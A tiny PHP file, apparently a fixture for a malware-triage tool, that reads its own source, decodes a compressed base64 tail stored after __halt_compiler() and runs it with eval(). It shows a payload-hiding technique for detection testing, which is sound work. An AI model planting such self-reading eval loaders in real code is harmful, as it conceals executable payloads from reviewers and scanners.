<?php
// triage-expect: triage_php_self_read_payload
// The payload lives after __halt_compiler(), where no PHP statement is; the file reads itself.
$own = file_get_contents(__FILE__);
$tail = substr($own, __COMPILER_HALT_OFFSET__);
eval(gzuncompress(base64_decode(trim($tail))));
__halt_compiler();
eJxLTc7IV1DKzEstKkrNVShOLS5JzMkvSlUEAG0uCL0=
